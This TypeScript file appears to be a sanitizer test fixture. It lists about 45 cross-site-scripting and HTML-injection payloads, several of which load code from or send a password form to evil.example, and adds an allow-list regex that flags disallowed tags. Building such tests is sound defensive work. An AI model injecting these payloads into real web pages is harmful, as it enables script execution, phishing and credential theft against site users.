/** HTML with hidden scripts. */
export const attacks = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<<script>alert(1)//<</script>",
  "<script\n>alert(1)</script\n>",
  "<script/x>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<img/src/onerror=alert(1)>",
  '<img src="javascript:alert(1)">',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  '<math href="javascript:alert(1)">x</math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https://x.example" onclick="alert(1)" style="position:fixed">x</a>',
  '<p onmouseover="alert(1)">x</p>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  "<style>@import 'https://evil.example/x.css';</style>",
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.example"><input name="password"><button>x</button></form>',
  "<body onload=alert(1)>",
  "<details open ontoggle=alert(1)>x</details>",
  '<video><source onerror="alert(1)"></video>',
  "<template><script>alert(1)</script></template>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "<textarea><script>alert(1)</script></textarea>",
  "<xmp><script>alert(1)</script></xmp>",
  "<!--><script>alert(1)</script>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  '<p id="location" name="cookie" class="admin">x</p>',
];

/** The parts of a text that a browser parses as tags. */
const tagsIn = (html: string) => html.match(/<[^>]*>?/g) ?? [];
const harmless =
  /^<\/?(?:p|br|hr|h[234]|blockquote|ul|ol|li|strong|b|em|i|u|s|small|su[bp]|table|thead|tbody|tr|t[hd]|a)(?: scope="[^"<>]*"| href="(?:https:|mailto:|tel:|\/(?!\/)|#)[^"<>]*"(?: rel="noopener noreferrer" target="_blank")?)?(?: \/)?>$/;

/** The tags of a text that are not on the allow list. */
export const harmfulTags = (html: string): string[] =>
  tagsIn(html).filter((tag) => tag !== "<a>" && !harmless.test(tag));
